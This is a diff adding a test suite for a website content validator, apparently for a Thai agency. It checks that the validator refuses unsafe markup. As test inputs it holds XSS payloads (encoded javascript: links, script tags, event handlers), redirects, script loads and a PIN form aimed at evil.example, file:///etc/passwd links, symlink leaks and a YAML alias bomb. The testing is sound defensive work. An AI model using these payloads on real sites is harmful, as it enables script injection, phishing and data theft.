@@ -1,0 +1,208 @@
+import { describe, it, expect, afterAll } from 'vitest';
+import { mkdir, symlink, writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { loadAndValidateContent } from '../../src/lib/content/load-content.ts';
+import type { ContentProblem } from '../../src/lib/content/problem.ts';
+import { copyFixtureSite, projectRoot, type ScratchSite } from '../helpers/fixture-site.ts';
+
+const sites: ScratchSite[] = [];
+afterAll(async () => Promise.all(sites.map((site) => site.remove())));
+let count = 0;
+async function scratch(): Promise<ScratchSite> {
+  const site = await copyFixtureSite('minimal', `safety-${(count += 1)}`);
+  sites.push(site);
+  return site;
+}
+const errorsOf = async (site: ScratchSite): Promise<ContentProblem[]> =>
+  (await loadAndValidateContent(site.root, path.relative(site.root, path.join(site.root, 'content')))).problems.filter((problem) => problem.severity === 'error');
+const planFile = 'content/documents/2567/procurement-plan.md';
+const withBody = (site: ScratchSite, markdown: string) => site.edit(planFile, (text) => `${text}\n${markdown}\n`);
+const pageFile = (name: string, body = 'เนื้อหา') => `---\ntitle: หน้าทดสอบ\n---\n${body}\n`.replace('หน้าทดสอบ', name);
+
+describe('content is data, never code: MDX is refused in every collection', () => {
+  it.each(['content/pages/notice.mdx', 'content/documents/2567/notice.mdx', 'content/measures/2567/notice.MDX', 'content/news/notice.mdx'])('%s', async (file) => {
+    const site = await scratch();
+    await site.write(file, `---\ntitle: ประกาศ\n---\nimport fs from "node:fs";\n\n{fs.readFileSync("/etc/hostname", "utf8")}\n`);
+    const problems = await errorsOf(site);
+    const mdx = problems.filter((problem) => problem.en.includes('not .mdx'));
+    expect(mdx).toEqual([expect.objectContaining({ file: expect.stringMatching(new RegExp(`${path.basename(file).replace('.', '\\.')}$`)), line: 1 })]);
+    // Nothing else about it (its fields are never read); an upper-case extension is also a bad file name.
+    expect(problems.filter((problem) => !mdx.includes(problem)).every((problem) => problem.en.includes('bad web address'))).toBe(true);
+  });
+});
+
+describe('only regular files inside content/ are read or published', () => {
+  it('a symlinked page, a symlinked folder and a symlinked attachment are each reported as a link, never as missing', async () => {
+    const site = await scratch();
+    const outside = path.join(projectRoot, '.prongsai/test-sites/outside-secret');
+    await mkdir(outside, { recursive: true });
+    await writeFile(path.join(outside, 'secret.md'), pageFile('ลับ', 'เลข 1-1037-02071-81-1'));
+    await symlink(path.join(outside, 'secret.md'), path.join(site.root, 'content/pages/leak.md'));
+    await symlink(outside, path.join(site.root, 'content/documents/2568'));
+    await site.edit(planFile, (text) => text.replace('file: procurement-plan-2567.pdf', 'file: linked.pdf'));
+    await symlink(path.join(site.root, 'content/documents/2567/procurement-plan-2567.pdf'), path.join(site.root, 'content/documents/2567/linked.pdf'));
+    const problems = await errorsOf(site);
+    const files = problems.map((problem) => problem.file.replace(/^.*content\//, ''));
+    expect(files.sort()).toEqual(['documents/2567/linked.pdf', 'documents/2568', 'pages/leak.md']);
+    for (const problem of problems) expect(problem.th).toContain('ลิงก์สัญลักษณ์');
+    expect(problems.map((problem) => problem.en).join(' ')).not.toMatch(/missing|national ID/);
+  });
+
+  it('an attachment outside the content folder is named as such', async () => {
+    const site = await scratch();
+    await site.edit(planFile, (text) => text.replace('file: procurement-plan-2567.pdf', 'file: ../../../../package.json'));
+    const problems = await errorsOf(site);
+    expect(problems.map((problem) => problem.en)).toEqual([expect.stringContaining('outside the content folder')]);
+  });
+
+  it.each([
+    ['an accent stored decomposed (NFD, as macOS writes names)', 'café-2567.pdf', 'cafe\u0301-2567.pdf'],
+    ['SARA AM typed as NIKHAHIT + SARA AA', 'คำสั่ง.pdf', 'ค\u0E4D\u0E32สั่ง.pdf'],
+  ])('a file name that looks the same but is stored differently is named with both spellings: %s', async (_name, onDisk, written) => {
+    const site = await scratch();
+    await site.write(`content/documents/2567/${onDisk}`, '%PDF-1.4\n%%EOF\n');
+    await site.edit(planFile, (text) => text.replace('file: procurement-plan-2567.pdf', `file: "${written}"`));
+    const problems = (await errorsOf(site)).filter((problem) => !problem.en.includes('bad web address'));
+    expect(problems.map((problem) => problem.en)).toEqual([`file name "${written}" looks like "${onDisk}" but its vowels or tone marks are stored differently (Unicode NFC/NFD)`]);
+  });
+});
+
+describe('the rendered HTML is checked, whatever the encoding (the class of javascript: links)', () => {
+  it.each([
+    ['reference definition with an entity', '[ดูเอกสาร][ref]\n\n[ref]: &#106;avascript:alert(1)'],
+    ['hex entity', '[ดู](&#x6A;avascript:alert(1))'],
+    ['mixed case', '[ดู](JaVaScRiPt:alert(1))'],
+    ['tab inside the scheme (browsers drop it)', '<a href="java&#9;script:alert(1)">ดู</a>'],
+    ['leading spaces in an HTML attribute', '<a href="  javascript:alert(1)">ดู</a>'],
+    ['angle-bracket link destination', '[ดู](<javascript:alert(1)>)'],
+    ['autolink', '<javascript:alert(1)>'],
+    ['image source', '![รูป](javascript:alert(1))'],
+    ['vbscript', '[ดู](vbscript:msgbox(1))'],
+    ['data: HTML', '[ดู](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
+    ['file: URL', '[ดู](file:///etc/passwd)'],
+    ['HTML entity colon', '<a href="javascript&colon;alert(1)">ดู</a>'],
+  ])('%s', async (_name, markdown) => {
+    const site = await scratch();
+    await withBody(site, markdown);
+    const problems = await errorsOf(site);
+    expect(problems.length).toBeGreaterThan(0);
+    expect(problems.every((problem) => /not allowed|may not carry|content may not/.test(problem.en))).toBe(true);
+    expect(problems[0]?.line).toBeGreaterThanOrEqual(12);
+  });
+
+  it('keeps the safe ones: https, mailto, tel, relative links and same-page anchors', async () => {
+    const site = await scratch();
+    await withBody(site, '[เว็บ](https://www.nacc.go.th/) [อีเมล](mailto:saraban@example.go.th) [โทร](tel:044123456) [แผน](procurement-plan-2567.pdf) [บน](#top)\n\n| ลำดับ | รายการ |\n|:--|--:|\n| 1 | จัดซื้อ |\n\n- [x] ทำแล้ว\n\nหมายเหตุ[^1]\n\n[^1]: ตามประกาศ');
+    expect(await errorsOf(site)).toEqual([]);
+  });
+});
+
+describe('dangerous elements and attributes are refused (the class of redirects, embeds and handlers)', () => {
+  it.each([
+    ['<meta http-equiv="refresh" content="0;url=https://evil.example">', 'meta'],
+    ['<base href="https://evil.example/">', 'base'],
+    ['<script>alert(1)</script>', 'script'],
+    ['<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>', 'script'],
+    ['<style>body{display:none}</style>', 'style'],
+    ['<iframe src="https://evil.example"></iframe>', 'iframe'],
+    ['<object data="x.swf"></object>', 'object'],
+    ['<embed src="x.swf">', 'embed'],
+    ['<form action="https://evil.example"><input name="pin"></form>', 'form'],
+    ['<svg><script>alert(1)</script></svg>', 'svg'],
+    ['<math><mi>x</mi></math>', 'math'],
+    ['<link rel="stylesheet" href="https://evil.example/x.css">', 'link'],
+    ['<template><img src=x onerror=alert(1)></template>', 'template'],
+  ])('%s', async (markup, element) => {
+    const site = await scratch();
+    await withBody(site, markup);
+    const problems = await errorsOf(site);
+    expect(problems.map((problem) => problem.en)).toContain(`the content contains a <${element}> element, which published content may not carry (it can run code, redirect the page or embed another site)`);
+    expect(problems[0]?.line).toBe(13);
+  });
+
+  it.each([
+    ['<img src="x.png" onerror="alert(1)">', 'onerror'],
+    ['<img src="x.png" ONERROR="alert(1)">', 'onerror'],
+    ['<details ontoggle="alert(1)" open><summary>ดู</summary></details>', 'ontoggle'],
+    ['<p style="position:fixed;inset:0">หลอก</p>', 'style'],
+    ['<a href="/" data-pagefind-weight="10">ดัน</a>', 'data-pagefind-weight'],
+    ['<input type="password" name="pin">', 'type'],
+  ])('%s', async (markup, attribute) => {
+    const site = await scratch();
+    await withBody(site, markup);
+    const problems = await errorsOf(site);
+    expect(problems.some((problem) => problem.en.includes(`the attribute ${attribute}`))).toBe(true);
+  });
+});
+
+describe('robust parsing: every problem reported, no stack trace', () => {
+  it('a YAML alias bomb is one clear problem, and the other files are still checked', async () => {
+    const site = await scratch();
+    const bomb = ['a: &a [1,1,1,1,1,1,1,1,1,1]', ...'bcdefgh'.split('').map((key, index) => `${key}: &${key} [${Array(10).fill(`*${'abcdefgh'[index]}`).join(',')}]`)].join('\n');
+    await site.write('content/measures/2567/bomb.md', `---\n${bomb}\n---\n`);
+    await site.edit('content/documents/2567/procurement-2567-01.md', (text) => text.replace('published: 2567-02-29', 'published: 2567-02-30'));
+    const problems = await errorsOf(site);
+    expect(problems.map((problem) => [problem.file.replace(/^.*content\//, ''), problem.en])).toEqual([
+      ['documents/2567/procurement-2567-01.md', expect.stringContaining('not a real calendar day')],
+      ['measures/2567/bomb.md', expect.stringContaining('too many YAML aliases')],
+    ]);
+  });
+
+  it('invalid UTF-8, an empty file and front matter that is a list each name the file and line', async () => {
+    const site = await scratch();
+    await writeFile(path.join(site.root, 'content/news/tis620.md'), Buffer.concat([Buffer.from('---\ntitle: ok\n'), Buffer.from([0xbb, 0xc3, 0xd0, 0x0a]), Buffer.from('---\n')]));
+    await site.write('content/news/empty.md', '');
+    await site.write('content/news/list.md', '---\n- title: ข่าว\n- date: 2567-01-01\n---\nเนื้อหา\n');
+    const problems = await errorsOf(site);
+    expect(problems.map((problem) => [problem.file.replace(/^.*content\//, ''), problem.line, problem.en])).toEqual([
+      ['news/empty.md', 1, 'the file is empty'],
+      ['news/list.md', 2, 'the data must be fields (name: value), but it is a list (lines starting with -)'],
+      ['news/tis620.md', 3, expect.stringContaining('not saved as UTF-8 (unreadable bytes on line 3)')],
+    ]);
+  });
+});
+
+describe('messages staff can act on', () => {
+  it.each([
+    ['a colon inside a title', 'title: แผนการจัดซื้อจัดจ้าง: ฉบับปรับปรุง', 2, 'put quotes around a value that contains a colon, e.g. title: "Plan: revised"'],
+    ['a field written twice, by name', 'fiscalYear: 2567\nfiscalYear: 2567', 5, undefined],
+    ['a list bracket never closed, at its opening line', 'measures: [2567/no-gift\nsummary: สรุป', 4, 'close it with ] on the same line, or write one item per line starting with -'],
+    ['a value starting with a dash', 'summary: - รายงาน', 4, 'quote the value, e.g. summary: "- text"'],
+  ])('%s', async (_name, yaml, line, fixEn) => {
+    const site = await scratch();
+    await site.write(
+      'content/documents/2567/typo.md',
+      `---\n${yaml.startsWith('title') ? yaml : 'title: เอกสาร'}\ntype: procurement-plan\n${yaml.startsWith('title') ? 'fiscalYear: 2567' : yaml}\n---\nเนื้อหา\n`,
+    );
+    const problems = (await errorsOf(site)).filter((problem) => problem.file.endsWith('typo.md'));
+    expect(problems).toHaveLength(1);
+    expect(problems[0]?.line).toBe(line);
+    if (fixEn) expect(problems[0]?.fixEn).toBe(fixEn);
+    else expect(problems[0]?.th).toBe('ช่อง "fiscalYear" ซ้ำ (มีแล้วในบรรทัด 4)');
+  });
+
+  it('shows a date as the staff typed it (BE), not converted', async () => {
+    const site = await scratch();
+    await site.edit(planFile, (text) => text.replace('published: 2566-10-20', 'published: 2567-10-20'));
+    const [problem] = await errorsOf(site);
+    expect(problem?.th).toContain('"2567-10-20"');
+    expect(problem?.th).not.toContain('2024');
+  });
+});
+
+describe('no cascades and no silent drops', () => {
+  it('a measure with broken YAML reports its own problem only, not "not found" in the files citing it', async () => {
+    const site = await scratch();
+    await site.edit('content/measures/2567/no-gift.md', (text) => text.replace('stage: recommended', 'stage: [recommended'));
+    const problems = await errorsOf(site);
+    expect(problems.map((problem) => problem.file.replace(/^.*content\//, ''))).toEqual(['measures/2567/no-gift.md']);
+  });
+
+  it('a page whose name is taken by a built-in page is an error listing the reserved names', async () => {
+    const site = await scratch();
+    await site.write('content/pages/contact.md', pageFile('ติดต่อเรา'));
+    const [problem, ...rest] = await errorsOf(site);
+    expect(rest).toEqual([]);
+    expect(problem?.en).toMatch(/page name "contact" is taken by a built-in page \(reserved: .*complaints.*contact.*documents/);
+  });
+});
